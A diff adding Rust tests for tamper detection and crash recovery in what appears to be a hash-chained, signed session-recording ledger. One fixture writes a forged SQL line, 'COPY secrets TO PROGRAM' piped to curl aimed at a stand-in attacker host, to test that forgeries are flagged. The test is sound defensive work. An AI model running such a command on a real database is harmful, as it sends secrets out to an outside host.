@@ -1029,3 +1029,123 @@ async fn an_emptied_unsealed_recording_is_listed_damaged_not_removed() {
         );
     }
 }
+
+/// Appends to recording `path` a line of `id` chained onto its last,
+/// which anyone can compute: no key needed.
+fn append_statement(path: &Path, id: &str, text: &str) -> Vec<u8> {
+    let mut data = std::fs::read(path).unwrap();
+    let last = lines(&data).last().unwrap().clone();
+    let (prev, _, _) = chain::split(last.trim_ascii_end()).unwrap();
+    let prev = prev.to_owned();
+    let e = Event {
+        seq: lines(&data).len() as u64,
+        session: id.to_owned(),
+        wall: "2026-01-01T00:00:00.000000Z".into(),
+        mono_us: 5,
+        body: statement(text),
+    };
+    chain::append_line(&mut data, &prev, &serde_json::to_vec(&e).unwrap());
+    std::fs::write(path, &data).unwrap();
+    data
+}
+
+/// Found in review: lines appended to a failed recording were sealed
+/// with the host's key at the next start, "as found". The writer never
+/// writes a recording again once it gave up on it, so they are a
+/// forger's: it is left and listed `damaged`. After a crash, lines past
+/// the last fsync may be the gateway's (written, not yet fsynced): those
+/// are still sealed, and the seal says how many were not fsynced.
+#[tokio::test]
+async fn lines_after_a_failed_recordings_anchor_are_not_sealed() {
+    let dir = tempfile::tempdir().unwrap();
+    let s = settings(dir.path());
+    let (id, path) = left_unsealed(&s, true).await;
+    let forged = append_statement(&path, &id, "COPY secrets TO PROGRAM 'curl attacker'");
+    restart(&s).shutdown().await;
+    assert_eq!(
+        std::fs::read(&path).unwrap(),
+        forged,
+        "a line after a failed recording's anchor was sealed"
+    );
+    let entry = &ledger_of(&s).entries[&id];
+    assert_eq!(entry.outcome, ledger::Outcome::Damaged);
+    assert_eq!(entry.anchor().map(|a| a.events), Some(2));
+    let (verdict, _) = verdict_of(&s, &id);
+    assert!(matches!(verdict, Verdict::Tampered { .. }), "{verdict:?}");
+
+    let dir = tempfile::tempdir().unwrap();
+    let s = settings(dir.path());
+    let (id, path) = left_unsealed(&s, false).await;
+    append_statement(&path, &id, "SELECT 'written, not fsynced'");
+    restart(&s).shutdown().await;
+    assert_eq!(
+        ledger_of(&s).entries[&id].outcome,
+        ledger::Outcome::Recovered
+    );
+    let (verdict, events) = verdict_of(&s, &id);
+    assert_eq!(verdict, Verdict::Recovered { events: 4 });
+    assert!(matches!(
+        &events[3].body,
+        Body::Seal { recovered: Some(r), .. }
+            if r.contains("events from seq 2 on") && r.ends_with(recover::AS_FOUND)
+    ));
+}
+
+/// A failed recording is held to end exactly at its anchor, so that
+/// anchor must be the newest: the `failed` line's, not one a head kept
+/// from before the failure (a full disk may keep the head from moving).
+/// With the older one, what the writer fsynced last would read as a
+/// forgery, and the recording as damaged.
+#[tokio::test]
+async fn a_failed_line_s_anchor_wins_over_an_older_head() {
+    let a = tempfile::tempdir().unwrap();
+    let (whole, public) = recorded(a.path()).await;
+    let id = session_id(&whole);
+    let whole_lines = lines(&std::fs::read(&whole).unwrap());
+    let anchor = |n: usize| ledger::Anchor {
+        events: n as u64,
+        hash: chain::split(whole_lines[n - 1].trim_ascii_end())
+            .unwrap()
+            .0
+            .to_owned(),
+    };
+    let host = tempfile::tempdir().unwrap();
+    let dir = host.path().join("sessions");
+    std::fs::create_dir_all(&dir).unwrap();
+    let keys_dir = settings(a.path()).keys_dir;
+    let key = keys::HostKey::load_or_create(&keys_dir).unwrap();
+    let head = ledger::head_path(&keys_dir, &dir);
+    let open = || ledger::LedgerWriter::open(&dir, &head, &key).unwrap();
+    let (mut ledger, _) = open();
+    ledger
+        .append(&key, ledger::Outcome::Opened, &id, 0, "")
+        .unwrap();
+    ledger.set_anchors([(id.clone(), anchor(2))].into());
+    ledger.sync().unwrap();
+    // The writer fsynced a third event, gave up, and listed it failed;
+    // the head never moved past that.
+    let failed = anchor(3);
+    ledger
+        .append(
+            &key,
+            ledger::Outcome::Failed,
+            &id,
+            failed.events,
+            &failed.hash,
+        )
+        .unwrap();
+    drop(ledger);
+    let path = place(&dir, &id, &whole_lines[..3].concat());
+
+    let (mut ledger, known) = open();
+    assert_eq!(known.anchors.get(&id), Some(&failed));
+    let done = recover::recover(&dir, &key, &mut ledger, &known).unwrap();
+    assert_eq!((done.sealed, done.damaged), (1, 0), "{done:?}");
+    let data = std::fs::read(&path).unwrap();
+    let (verdict, events) = verify::verify(&data, &[public]);
+    assert_eq!(verdict, Verdict::Recovered { events: 4 });
+    assert!(matches!(
+        &events[3].body,
+        Body::Seal { recovered: Some(r), .. } if r == recover::REASON
+    ));
+}
